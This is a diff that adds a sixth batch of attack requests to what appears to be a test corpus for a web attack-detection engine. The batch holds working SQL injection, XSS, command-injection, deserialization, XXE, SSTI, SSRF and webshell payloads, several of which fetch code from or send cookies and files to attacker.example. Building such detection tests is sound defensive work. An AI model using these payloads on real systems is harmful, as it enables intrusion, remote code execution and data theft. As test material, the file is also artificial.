@@ -1837,6 +1837,387 @@ BATCH5 = {"sqli": sqli5, "xss": xss5, "cmdi": cmdi5, "lfi": lfi5, "rfi_ssrf": rf
           "ssti": ssti5, "webshell": webshell5, "scanner": scanner5, "protocol": protocol5}
 
 
+# ------------------------------------------------------------------ batch 6
+# Written in session 3 by someone who did not read the engine or its rules,
+# and measured before any tuning: dialects, places and carriers the earlier
+# batches do not hold (ClickHouse, Dameng, KingbaseES, openGauss, SQL Server
+# BULK reads, Oracle dbms_xmlgen, MySQL 8 REGEXP_LIKE/JSON_TABLE, SQLite
+# load_extension, GBK wide bytes; XSS through CSS, srcset, area maps, RPO,
+# uploaded HTML/XHTML/PDF/ZIP, prototype-pollution gadgets and Alpine.js;
+# deserialization (pickle, YAML, Json.NET $type, Java ViewState), environment
+# injection, Kubernetes/Helm/Ansible consoles; Windows device paths, short
+# names and streams; cloud metadata of Huawei Cloud and Volcengine; XXE in
+# XLSX/ODT/Atom/XMP/WS-Security/CalDAV/pom.xml/XBRL/draw.io; Handlebars and
+# EJS pollution, Blade, Liquid, Twig map, Freemarker ?api; .htaccess
+# handlers, plugin zips, WAR deploys, WebDAV MOVE; more internet-wide
+# scanners; Expect and trailer desyncs). Most requests are plain; a few carry
+# an encoding. Binary carriers (ZIP, JPEG, PNG) never hold a NUL byte.
+import struct as _struct  # noqa: E402
+
+
+def sqli6():
+    mssql_hex = "0x" + "WAITFOR DELAY '0:0:5'".encode().hex()
+    return [
+        Q("/api/metrics/events", "event", "click' UNION ALL SELECT line, 1 FROM file('/etc/passwd', 'LineAsString') --",
+          [("from", "2025-03-01"), ("to", "2025-03-02")]),
+        Q("/api/metrics/events", "uid", "1 AND (SELECT sum(sleepEachRow(1)) FROM numbers(5)) = 0"),
+        Q("/xxgk/info", "id", "1' AND 1=CAST((SELECT INSTANCE_NAME||'-'||SVR_VERSION FROM V$INSTANCE) AS INT)--"),
+        Q("/portal/notice/view", "noticeId", "7;SELECT sys_sleep(6)--"),
+        Q("/portal/notice/view", "noticeId", "7' and 1=cast((select rolpassword from pg_authid where rolname='omm') as "
+          "int)--"),
+        Q("/Reports/Detail.aspx", "rid", "1 UNION ALL SELECT BulkColumn,NULL FROM OPENROWSET(BULK 'C:\\inetpub\\wwwroot\\"
+          "web.config', SINGLE_CLOB) AS x--"),
+        Q("/hr/staff", "deptno", "10 AND 1=(SELECT to_number(dbms_xmlgen.getxml('select password from sys.user$ where "
+          "rownum=1')) FROM dual)"),
+        Q("/api/posts", "author", "7 AND REGEXP_LIKE((SELECT authentication_string FROM mysql.user WHERE user='root' "
+          "LIMIT 1),'^\\\\$A\\\\$005')"),
+        Q("/api/posts", "id", "-3 UNION SELECT jt.u, 2 FROM JSON_TABLE((SELECT JSON_ARRAYAGG(CONCAT(user,'@',host)) FROM "
+          "mysql.user), '$[*]' COLUMNS(u VARCHAR(200) PATH '$')) AS jt"),
+        Q("/notes/view", "id", "1' AND load_extension('/var/www/uploads/avatar_311.so','sqlite3_extension_init')--"),
+        XML("/api/v1/stock/query", '<?xml version="1.0" encoding="UTF-8"?><query><warehouse>WH-01</warehouse><sku>'
+            "SKU-10023' AND 4821=(SELECT 4821 FROM PG_SLEEP(5))-- x</sku></query>"),
+        R5("GET", "/api/v1/device/report", extra={"X-Device-Id' or sleep(5)#": "a1b2c3d4", "X-App-Version": "5.3.1"},
+           accept="application/json"),
+        M("/member/feedback", [("type", "2"), ("content", "页面打不开"), ("contact' UNION SELECT 1,@@version-- -", "1")]),
+        J("/api/v1/articles/batch", {"tags": ["java", "spring", "b'||(select case when substr(current_setting('server_"
+                                     "version'),1,2)='16' then pg_sleep(4) else '' end)||'"]}),
+        P("/api/v3/stores/12/items/88%20AND%20(SELECT%202*(IF((SELECT*FROM(SELECT(SLEEP(3)))s),1,0)))"),
+        Q("/api/v2/users", "fields", "id,nickname,(select group_concat(username,0x3a,password) from admin_users)"),
+        Q("/api/v2/files", "id", "1; SELECT lo_import('/etc/passwd', 31337); SELECT lo_get(31337)--"),
+        Q("/api/v2/orders", "id", "1; SELECT * FROM fn_xe_file_target_read_file('\\\\'+(SELECT TOP 1 password FROM users)"
+          "+'.attacker.example\\x.xem',NULL,NULL,NULL)--"),
+        J("/api/v1/profile", [{"op": "replace", "path": "/nickname", "value": "x', is_admin=1, balance=99999 WHERE id=1-- "}],
+          method="PATCH"),
+        RQ("/goods.php", "id=3%0cunion%0cselect%0c1,concat_ws(0x3a,user_name,password),3%0cfrom%0cecs_admin_user"),
+        RQ("/product.asp", "id=1%df%27%20union%20select%201,user(),3,4--%20"),
+        RQ("/api/search", "kw=phone%EF%BC%87%20or%201=1%20--%20"),
+        Q("/api/v2/orders", "id", "1;DO $$BEGIN PERFORM pg_sleep(5);END$$--"),
+        Q("/admin/log/list", "id", "1;DECLARE @s VARCHAR(4000);SET @s=" + mssql_hex + ";EXEC(@s);--"),
+    ]
+
+
+def xss6():
+    zip_html = ("PK\u0003\u0004\u0014\u0001\u0008\u0001\u0001\u0001\u00b4\u0071\u0079\u0058\u009c\u0012\u0044\u00a7"
+                "\u0046\u0001\u0001\u0001\u0046\u0001\u0001\u0001\u000a\u0001\u0001\u0001index.html<html><body><script>"
+                "fetch('//attacker.example/c?'+document.cookie)</script></body></html>PK\u0001\u0002\u0014\u0003")
+    pdf_js = ("%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages "
+              "/Kids [] /Count 0 >>\nendobj\n3 0 obj\n<< /S /JavaScript /JS (app.alert\\(document.domain\\); "
+              "this.submitForm\\('https://attacker.example/p'\\);) >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
+    jpeg_com = ("\u00ff\u00d8\u00ff\u00e0\u0010JFIF\u0001\u0001\u0001\u0048\u0048\u00ff\u00fe\u0040<svg/onload="
+                "alert(document.domain)>\u00ff\u00db\u0043\u0001" + "".join(chr(c) for c in range(1, 40)) + "\u00ff\u00d9")
+    return [
+        F("/shop/theme/custom-css", "css", "input[name=csrf_token][value^=a]{background:url(https://attacker.example/"
+          "t?a)}input[name=csrf_token][value^=b]{background:url(https://attacker.example/t?b)}"),
+        Q("/s", "q", "<img srcset=\",,,,,x\" onerror=alert(document.domain)>"),
+        F("/forum/post", "message", "<script src=\"/api/common/jsonp?callback=alert(document.cookie)//\"></script>"),
+        Q("/tpl/preview", "name", "${fetch('//attacker.example/?'+document.cookie)}"),
+        F("/wiki/edit", "text", "<img src=/static/map.png usemap=#m><map name=m><area shape=rect coords=0,0,800,600 "
+          "href=javascript:alert(document.domain)></map>"),
+        P("/user/profile.php/%0A%7B%7D*%7Bbackground:url(javascript:alert(1))%7D/"),
+        M("/api/v1/attachments", [("ticketId", "55021"), ("file", "<html><body><h1>发票</h1><script>fetch('//attacker."
+                                  "example/?c='+document.cookie)</script></body></html>", "发票.html", "text/html")]),
+        M("/api/v1/attachments", [("ticketId", "55022"),
+                                  ("file", '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
+                                           '<script>alert(document.domain)</script></body></html>', "readme.xhtml",
+                                   "application/xhtml+xml")]),
+        M("/contract/upload", [("file", pdf_js, "合同-2025.pdf", "application/pdf")]),
+        M("/docs/import", [("file", zip_html, "report.zip", "application/zip")]),
+        RQ("/help/article", "id=12&__proto__%5BinnerHTML%5D=%3Cimg%2Fsrc%2Fonerror%3Dalert(document.domain)%3E"),
+        RQ("/landing", "utm_source=wx&constructor%5Bprototype%5D%5Bsrcdoc%5D%5B%5D=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+        J("/api/v1/issues/102/comments", {"body": "复现步骤见这里 <javascript:alert(document.cookie)>"}),
+        M("/api/v1/photos", [("album", "travel"), ("file", jpeg_com, "IMG_2041.jpg", "image/jpeg")]),
+        Q("/s", "q", "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">"),
+        F("/comment", "body", "<div style=overflow:auto;height:40px onscrollend=alert(document.domain)>"
+          "<br><br><br><br><br><br><br>x</div>"),
+        Q("/account/email/verify", "email", "a@b.cn\"><img src='https://attacker.example/log?"),
+        Q("/s", "q", "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
+          "&#0000116&#0000058alert(1)\">link</a>"),
+        Q("/s", "q", "<img src=x onerror=\\u{61}lert(document.domain)>"),
+        F("/post/new", "content", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style>"
+          "<img onerror=alert(1) src>\">"),
+        J("/wxapi/user/updateProfile", {"nickName": "<img src=1 onerror=alert(document.cookie)>", "gender": 1,
+                                        "avatarUrl": "https://thirdwx.qlogo.cn/mmopen/vi_32/x/132"}),
+        F("/cms/block/save", "html", "<div x-data x-init=\"fetch('//attacker.example/?'+document.cookie)\"></div>"),
+    ]
+
+
+def cmdi6():
+    pickle_cookie = _b64.b64encode(b"cos\nsystem\n(S'curl -s attacker.example/p.sh|sh'\ntR.").decode()
+    ser = (b"\xac\xed\x00\x05sr\x002sun.reflect.annotation.AnnotationInvocationHandlerU\xca\xf5\x0f\x15\xcb~\xa5\x02"
+           b"\x00\x02L\x00\x0cmemberValuest\x00\x0fLjava/util/Map;xpsr\x00*org.apache.commons.collections.map.LazyMap"
+           b"n\xe5\x94\x82\x9ey\x10\x94\x03\x00\x01L\x00\x07factoryt\x00,Lorg/apache/commons/collections/Transformer;"
+           b"xpsr\x00:org.apache.commons.collections.functors.ChainedTransformer0\xc7\x97\xec(z\x97\x04\x02\x00\x01"
+           b"[\x00\x0diTransformerst\x00-[Lorg/apache/commons/collections/Transformer;xpur\x00-[Lorg.apache.commons."
+           b"collections.Transformer;\xbdV*\xf1\xd84\x18\x99\x02\x00\x00xp\x00\x00\x00\x05sr\x00;org.apache.commons."
+           b"collections.functors.ConstantTransformerXv\x90\x11A\x02\xb1\x94\x02\x00\x01L\x00\x09iConstantt\x00\x12"
+           b"Ljava/lang/Object;xpvr\x00\x11java.lang.Runtime\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00xpsr\x00:org."
+           b"apache.commons.collections.functors.InvokerTransformer\x87\xe8\xffk{|\xce8\x02\x00\x03[\x00\x05iArgst\x00"
+           b"\x13[Ljava/lang/Object;L\x00\x0biMethodNamet\x00\x12Ljava/lang/String;[\x00\x0biParamTypest\x00\x12[Ljava/"
+           b"lang/Class;xpt\x00\x04exect\x00\x07whoami")
+    return [
+        F("/report/export", "name", "Q4\" & %COMSPEC% /c whoami > C:\\inetpub\\wwwroot\\w.txt & \""),
+        Q("/ops/log/filter", "expr", "BEGIN{system(\"curl -s attacker.example/a.sh|sh\")}"),
+        F("/image/convert", "src", "|curl -s http://attacker.example/i.sh|sh"),
+        R5("POST", "/cgi-bin/index", query="LD_PRELOAD=/proc/self/fd/0", body="\u007fELF\u0002\u0001\u0001" +
+           "".join(chr(c) for c in range(1, 64)), ctype="application/octet-stream", accept="*/*"),
+        J("/api/v1/pipelines/31/variables", {"key": "BASH_ENV", "value": "$(curl -s attacker.example/e|sh)",
+                                             "protected": False}),
+        J("/api/v1/k8s/namespaces/default/pods", {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "debug-7f3"},
+                                                  "spec": {"hostPID": True, "containers": [{"name": "d", "image": "alpine",
+                                                           "securityContext": {"privileged": True},
+                                                           "command": ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh",
+                                                                       "-c", "curl -s attacker.example/k|sh"]}]}}),
+        F("/ops/software/install", "package", "nginx && curl -s http://attacker.example/k|bash", [("hosts", "web01")]),
+        Q("/api/helm/install", "chart", "bitnami/nginx --post-renderer /tmp/upload/pr.sh", [("release", "web")]),
+        J("/api/v1/settings/merge", None, raw='{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child'
+                                              '_process\').execSync(\'id\').toString())//","NODE_OPTIONS":"--require '
+                                              '/proc/self/cmdline"}}'),
+        C("/dashboard", "session=" + pickle_cookie + "; lang=zh-CN"),
+        M("/api/v1/workflow/import", [("file", "name: nightly\nsteps: !!python/object/apply:os.system [\"curl -s "
+                                               "attacker.example/y|sh\"]\n", "nightly.yaml", "application/x-yaml")]),
+        J("/api/Values/import", None, raw='{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework",'
+                                          '"MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList,'
+                                          ' mscorlib","$values":["cmd.exe","/c whoami > C:\\\\Windows\\\\Temp\\\\o.txt"]},'
+                                          '"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}'),
+        F("/faces/login.xhtml", "javax.faces.ViewState", _b64.b64encode(ser).decode(),
+          [("loginForm", "loginForm"), ("loginForm:user", "admin")]),
+        Q("/win/tools/ping", "host", "127.0.0.1 & for /f \"delims=\" %i in ('whoami') do nslookup %i.attacker.example"),
+        Q("/tools/ping", "host", "127.0.0.1;echo 6964 | xxd -r -p | sh"),
+    ]
+
+
+def lfi6():
+    return [
+        Q("/download.aspx", "file", "default.aspx::$DATA"),
+        Q("/download.aspx", "file", "..\\..\\..\\PROGRA~1\\MySQL\\MYSQLS~1.7\\my.ini"),
+        Q("/api/file/read", "path", "\\\\?\\C:\\Windows\\win.ini"),
+        J("/api/v1/export/pdf", {"title": "月报", "html": "<h1>月报</h1><embed src=\"file:///etc/passwd\" type=\"text/plain\" "
+                                 "width=\"800\" height=\"1200\">"}),
+        Q("/index.php", "page", "/proc/self/fd/7"),
+        P("/static/..;jsessionid=1A2B3C/WEB-INF/web.xml"),
+        Q("/Handler/Download.ashx", "f", "..\\..\\..\\Windows\\System32\\inetsrv\\config\\applicationHost.config"),
+        Q("/index.php", "view", "../../storage/logs/laravel.log"),
+        J("/api/v1/cluster/kubeconfig/preview", {"file": "../../../../etc/kubernetes/admin.conf"}),
+        RQ("/file/download", "name=%E2%80%A5/%E2%80%A5/%E2%80%A5/etc/passwd"),
+        Q("/index.php", "page", "compress.zlib:///etc/passwd"),
+        Q("/file.aspx", "path", "~/web.config"),
+        P("/vpn/../vpns/cfg/smb.conf"),
+    ]
+
+
+def rfi_ssrf6():
+    return [
+        J("/api/v1/report/pdf", {"html": "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"600\" height=\"400\"><image "
+                                 "href=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=\"600\" "
+                                 "height=\"400\"/></svg>"}),
+        F("/invoice/render", "html", "<p>发票</p><img src=\"http://10.0.3.12:8080/admin/user/delete?id=1\">"),
+        J("/api/v1/webhooks", {"name": "deploy", "url": "http://localhost.:8080/actuator/env", "events": ["push"]}),
+        Q("/image/proxy", "url", "http://cdn.example.cn%2540169.254.169.254/latest/meta-data/", e=None),
+        Q("/fetch", "url", "netdoc:///etc/passwd"),
+        Q("/fetch", "url", "http://169.254.169.254/openstack/latest/securitykey"),
+        J("/api/v1/link/preview", {"url": "http://100.96.0.96/latest/meta-data/iam/security-credentials/"}),
+        Q("/fetch", "url", "http://127\u30020\u30020\u30021:8848/nacos/"),
+        XML("/xmlrpc.php", '<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params><param><value>'
+            '<string>http://127.0.0.1:6379/</string></value></param><param><value><string>https://blog.example.org/2024/11/'
+            'hello-world/</string></value></param></params></methodCall>', ctype="text/xml"),
+        J("/api/v1/datasource/test", {"type": "prometheus",
+                                      "url": "http://prometheus-server.monitoring.svc.cluster.local/api/v1/targets"}),
+        Q("/image/proxy", "url", "http://127.0.0.1:6379/%0D%0ACONFIG%20SET%20dir%20/var/spool/cron/%0D%0A", e=None),
+        RQ("/index.php", "page=http://attacker.example/shell.txt%23"),
+        Q("/plugins/servlet/oauth/users/icon-uri", "consumerUri", "http://169.254.169.254/latest/meta-data/"),
+        J("/api/v1/datasource/save", {"name": "mysql-prod", "type": "mysql",
+                                      "url": "jdbc:mysql://attacker.example:3306/test?allowLoadLocalInfile=true&"
+                                             "allowUrlInLocalInfile=true&maxAllowedPacket=655360",
+                                      "username": "root", "password": "x"}),
+    ]
+
+
+def xxe6():
+    pre = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+    dtd = ('<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % w "<!ENTITY &#x25; s SYSTEM '
+           "'http://attacker.example/?d=%f;'>\">%w;%s;")
+    saml = ('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><samlp:AuthnRequest xmlns:samlp="urn:oasis:names:'
+            'tc:SAML:2.0:protocol" ID="_a1" Version="2.0" IssueInstant="2025-03-01T08:00:00Z"><saml:Issuer xmlns:saml='
+            '"urn:oasis:names:tc:SAML:2.0:assertion">&x;</saml:Issuer></samlp:AuthnRequest>')
+    # HTTP-Redirect binding: raw DEFLATE, written as one stored block so no zlib build changes the bytes
+    raw = saml.encode()
+    saml_req = _b64.b64encode(b"\x01" + _struct.pack("<HH", len(raw), 0xffff ^ len(raw)) + raw).decode()
+    xmp = ("\u00ff\u00d8\u00ff\u00e1\u0004\u0088http://ns.adobe.com/xap/1.0/\u0001<?xpacket begin=\"\ufeff\" id=\"W5M0MpCe"
+           "hiHzreSzNTczkc9d\"?><!DOCTYPE x:xmpmeta [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><x:xmpmeta xmlns:x=\""
+           "adobe:ns:meta/\"><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><rdf:Description "
+           "xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:creator>&x;</dc:creator></rdf:Description></rdf:RDF>"
+           "</x:xmpmeta><?xpacket end=\"w\"?>\u00ff\u00d9")
+    return [
+        M("/import/excel", [("file", pre + '<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst xmlns="http://'
+                             'schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&x;'
+                             '</t></si></sst>', "sharedStrings.xml", "application/xml")]),
+        XML("/feeds/import", pre + '<!DOCTYPE feed [<!ENTITY x SYSTEM "file:///etc/passwd">]><feed xmlns="http://www.w3.'
+            'org/2005/Atom"><title>news</title><entry><title>&x;</title><id>urn:uuid:1</id></entry></feed>',
+            ctype="application/atom+xml"),
+        M("/api/v1/photos", [("album", "2025"), ("file", xmp, "DSC_0091.jpg", "image/jpeg")]),
+        XML("/services/AccountService", pre + '<!DOCTYPE e [<!ENTITY u SYSTEM "file:///etc/passwd">]><soapenv:Envelope '
+            'xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><wsse:Security xmlns:wsse="http://'
+            'docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"><wsse:UsernameToken><wsse:'
+            'Username>&u;</wsse:Username><wsse:Password>x</wsse:Password></wsse:UsernameToken></wsse:Security></soapenv:'
+            'Header><soapenv:Body><getBalance/></soapenv:Body></soapenv:Envelope>', ctype="text/xml; charset=utf-8"),
+        M("/docs/convert", [("file", pre + '<!DOCTYPE office:document-content [<!ENTITY % r SYSTEM "http://attacker.'
+                             'example/odt.dtd">%r;]><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:'
+                             'xmlns:office:1.0"/>', "content.xml", "application/vnd.oasis.opendocument.text")]),
+        RQ("/sso/saml/login", "SAMLRequest=" + enc(saml_req) + "&RelayState=%2Fdashboard"),
+        M("/api/diagram/import", [("file", '<?xml version="1.0"?><!DOCTYPE mxfile [<!ENTITY x SYSTEM "file:///etc/'
+                                   'hosts">]><mxfile host="app.diagrams.net"><diagram name="Page-1"><mxGraphModel><root>'
+                                   '<mxCell id="0" value="&x;"/></root></mxGraphModel></diagram></mxfile>',
+                                   "架构图.drawio", "application/xml")]),
+        XML("/caldav/calendars/user1/", pre + '<!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]><C:calendar-query '
+            'xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav"><D:prop><D:getetag/></D:prop><C:filter><C:comp-filter '
+            'name="&x;"/></C:filter></C:calendar-query>', method="REPORT"),
+        XML("/api/xml/in", pre + '<!DOCTYPE r [<!ENTITY % d SYSTEM "data:text/plain;base64,' +
+            _b64.b64encode(dtd.encode()).decode() + '">%d;]><r/>'),
+        M("/ci/api/projects/12/pom", [("file", pre + '<!DOCTYPE project [<!ENTITY x SYSTEM "file:///root/.m2/settings.'
+                                       'xml">]><project xmlns="http://maven.apache.org/POM/4.0.0"><modelVersion>4.0.0'
+                                       '</modelVersion><groupId>com.example</groupId><artifactId>&x;</artifactId>'
+                                       '<version>1.0</version></project>', "pom.xml", "text/xml")]),
+        M("/reader/opml/import", [("file", pre + '<!DOCTYPE opml [<!ENTITY % e SYSTEM "http://attacker.example/o.dtd">'
+                                   '%e;]><opml version="2.0"><head><title>subs</title></head><body><outline text="x"/>'
+                                   '</body></opml>', "subscriptions.opml", "text/x-opml")]),
+        M("/disclosure/xbrl/upload", [("company", "600000"),
+                                      ("file", pre + '<!DOCTYPE xbrl [<!ENTITY x SYSTEM "file:///etc/passwd">]><xbrli:'
+                                       'xbrl xmlns:xbrli="http://www.xbrl.org/2003/instance"><xbrli:context id="c1">'
+                                       '<xbrli:entity><xbrli:identifier scheme="http://www.sse.com.cn">&x;</xbrli:'
+                                       'identifier></xbrli:entity></xbrli:context></xbrli:xbrl>', "2024年报.xbrl",
+                                       "application/xml")]),
+    ]
+
+
+def ssti6():
+    hbs = ("{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup "
+           "string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return "
+           "require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 "
+           "codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}")
+    return [
+        F("/mail/template/preview", "body", "<% import os; x = os.popen('id').read() %>${x}"),
+        Q("/hello", "name", "{%set a=dict(__cla=1,ss__=2)|join%}{%set b=dict(__ba=1,se__=2)|join%}{{()|attr(a)|attr(b)}}"),
+        F("/razor/preview", "code", "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")"),
+        Q("/pages/preview", "title", "{{ 7 | times: 7 }}"),
+        J("/api/v1/email/render", {"template": hbs, "data": {}}),
+        F("/admin/notice/save", "content", "@php system('id'); @endphp"),
+        F("/cms/block", "content", "{{['cat /etc/passwd']|map('passthru')|join}}"),
+        Q("/index.php", "tpl", "{$smarty.version}"),
+        F("/report/template", "tpl", "${\"id\".execute().text}"),
+        Q("/user.jsp", "name", "${applicationScope}"),
+        R5("GET", "/api/v1/me", extra={"Authorization": "Bearer ${jndi:iiop://attacker.example:1050/o}"},
+           accept="application/json"),
+        Q("/api/greeting", "fmt", "{user.__init__.__globals__[CONFIG][SECRET_KEY]}"),
+        Q("/hello", "name", "{% debug %}"),
+        J("/api/v1/profile/merge", None, raw='{"__proto__":{"type":"Program","body":[{"type":"MustacheStatement",'
+                                             '"path":0,"params":[{"type":"NumberLiteral","value":"process.mainModule.'
+                                             'require(\'child_process\').execSync(\'id\')"}],"loc":{"start":0,"end":0}}]}}'),
+        J("/api/v1/prefs", None, raw='{"theme":"dark","__proto__":{"client":true,"escapeFunction":"JSON.stringify; '
+                                     'process.mainModule.require(\'child_process\').exec(\'curl -s attacker.example/e|sh\')"}}'),
+        F("/admin/mail/template/preview", "content", "${object?api.class.getResource(\"/\").path}"),
+    ]
+
+
+HTACCESS_SELF = "php_value auto_prepend_file .htaccess\n#<?php @eval($_POST['k']); ?>\n"
+HTACCESS_MATCH = ("<FilesMatch \"avatar\">\n  SetHandler application/x-httpd-php\n</FilesMatch>\n")
+PLUGIN_ZIP = ("PK\u0003\u0004\u0014\u0001\u0008\u0001\u0001\u0001\u00c2\u0063\u0079\u0058\u0011\u0022\u0033\u0044\u0030"
+              "\u0001\u0001\u0001\u0030\u0001\u0001\u0001\u0019\u0001\u0001\u0001hello-dolly-pro/cache.php<?php @eval("
+              "$_POST['hd']); ?>PK\u0001\u0002\u0014\u0003\u0014\u0001")
+WAR = ("PK\u0003\u0004\u0014\u0001\u0008\u0008\u0001\u0001\u0034\u0078\u0079\u0058\u0001\u0001\u0001\u0001\u0001\u0001"
+       "\u0001\u0001\u0001\u0001\u0001\u0001\u0008\u0001\u0001\u0001cmd.jsp<%@ page import=\"java.io.*\" %><% if(request."
+       "getParameter(\"c\")!=null){Process p=Runtime.getRuntime().exec(request.getParameter(\"c\"));InputStream in=p."
+       "getInputStream();int a;while((a=in.read())!=-1){out.print((char)a);}} %>PK\u0003\u0004\u0014\u0001META-INF/"
+       "MANIFEST.MFManifest-Version: 1.0\r\n")
+PNG_PHP = ("\u0089PNG\r\n\u001a\n\u0001\u0001\u0001\rIHDR\u0001\u0001\u0001\u0020\u0001\u0001\u0001\u0020\u0008\u0006"
+           "\u0001\u0001\u0001\u0073\u007a\u007a\u00f4\u0001\u0001\u0001\u0034iTXtComment\u0001\u0001\u0001\u0001\u0001"
+           "<?php system($_GET['c']); ?>\u00a1\u00b2\u00c3\u00d4\u0001\u0001\u0001\u0001IEND\u00aeB`\u0082")
+ASMX = ("<%@ WebService Language=\"C#\" Class=\"S\" %>\nusing System.Web.Services;\n[WebService]\npublic class S : "
+        "WebService {\n  [WebMethod] public string R(string c) {\n    var p = System.Diagnostics.Process.Start(new "
+        "System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + c) { RedirectStandardOutput = true, UseShellExecute"
+        " = false });\n    return p.StandardOutput.ReadToEnd();\n  }\n}\n")
+
+
+def webshell6():
+    return [
+        M("/api/v1/files", [("file", HTACCESS_SELF, ".htaccess", "text/plain")], boundary="----WebKitFormBoundaryH6tacc000001"),
+        M("/member/avatar/upload", [("file", HTACCESS_MATCH, ".htaccess", "image/png")],
+          boundary="----WebKitFormBoundaryH6tacc000002"),
+        M("/wp-admin/update.php", [("_wpnonce", "8f2a1c9d0e"), ("pluginzip", PLUGIN_ZIP, "hello-dolly-pro.zip",
+                                                                "application/zip"), ("install-plugin-submit", "Install Now")],
+          query="action=upload-plugin", boundary="----WebKitFormBoundaryP6lugin00003"),
+        M("/invoice/upload", [("file", "%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
+                               "<?php @eval($_POST['pdf']); ?>\n%%EOF\n", "invoice.pdf.php", "application/pdf")],
+          boundary="----WebKitFormBoundaryP6df0000004"),
+        R5("PUT", "/manager/text/deploy", query="path=/status-check&update=true", body=WAR, ctype="application/octet-stream",
+           extra={"Authorization": "Basic dG9tY2F0OnRvbWNhdA=="}, ua_="curl/7.88.1", accept="*/*"),
+        M("/api/v1/photos", [("album", "default"), ("file", PNG_PHP, "photo.php", "image/png")],
+          boundary="----WebKitFormBoundaryP6ng00000006"),
+        M("/upload/attach", [("file", ASMX, "health.asmx", "text/plain")], boundary="----WebKitFormBoundaryA6smx0000007"),
+        M("/upload", [("file", "<?php array_filter(array($_POST['x']), 'sys'.'tem'); ?>", "thumb.php3", "image/jpeg")],
+          boundary="----WebKitFormBoundaryP6hp3000008"),
+        R5("PUT", "/dav/shell.txt", body="<%eval request(\"x\")%>", ctype="text/plain", ua_="Microsoft-WebDAV-MiniRedir/"
+           "10.0.19045", accept="*/*"),
+        R5("MOVE", "/dav/shell.txt", extra={"Destination": "http://www.example.cn/dav/shell.asp;.txt", "Overwrite": "T"},
+           ua_="Microsoft-WebDAV-MiniRedir/10.0.19045", accept="*/*"),
+        M("/admin/theme/upload", [("file", "<h1>hi</h1><%- global.process.mainModule.require('child_process').execSync("
+                                   "req.query.c || 'id') %>", "footer.ejs", "text/plain")],
+          boundary="----WebKitFormBoundaryE6js00000009"),
+        RQ("/uploads/image/2025/03/.cache.php", "c=whoami"),
+        RF("/static/plugins/ueditor/jsp/upload/file/20250301/check.jsp", "pwd=j&cmd=" + form_enc("cat /etc/passwd"),
+           ua_="python-requests/2.31.0", accept="*/*"),
+    ]
+
+
+def scanner6():
+    return [
+        H("/", "User-Agent", "Mozilla/5.0 (compatible; NetcraftSurveyAgent/1.0; +info@netcraft.com)"),
+        H("/", "User-Agent", "Mozilla/5.0 (compatible; Nimbostratus-Bot/v1.3.2; http://cloudsystemnetworks.com)"),
+        H("/", "User-Agent", "Mozilla/5.0 (compatible; InternetMeasurement/1.0; +https://internet-measurement.com/)"),
+        H("/", "User-Agent", "Mozilla/5.0 (compatible; ModatScanner/1.0; +https://modat.io/)"),
+        H("/index.php", "User-Agent", "DotDotPwn v3.0"),
+        H("/", "User-Agent", "Mozilla/5.0 (compatible; Detectify) +https://detectify.com/bots/"),
+        P("/wp-json/wp/v2/users"),
+        P("/_ignition/health-check"),
+        P("/telescope/requests"),
+        P("/v2/_catalog"),
+        P("/.git-credentials"),
+        P("/autodiscover/autodiscover.json", "@zdi/Powershell"),
+        P("/seeyon/htmlofficeservlet"),
+        P("/sftp-config.json"),
+    ]
+
+
+def protocol6():
+    many = {"X-H-%03d" % i: "v" for i in range(300)}
+    dup = '{"username":"bob","role":"user","role":"admin","x":1}'
+    trailer = "5\r\nhello\r\n0\r\nX-Forwarded-For: 127.0.0.1\r\nX-Real-IP: 127.0.0.1\r\n\r\n"
+    return [
+        with_headers("GET", "/", many),
+        with_headers("GET", "/api/v1/users/5", {"X-HTTP-Method-Override": "DELETE"}),
+        with_headers("POST", "/api/v1/orders", {"Content-Type": "application/json", "Content-Length": "2",
+                                                "Content-Encoding": "gzip, gzip, gzip, gzip, gzip, deflate, deflate, br, br"},
+                     "{}"),
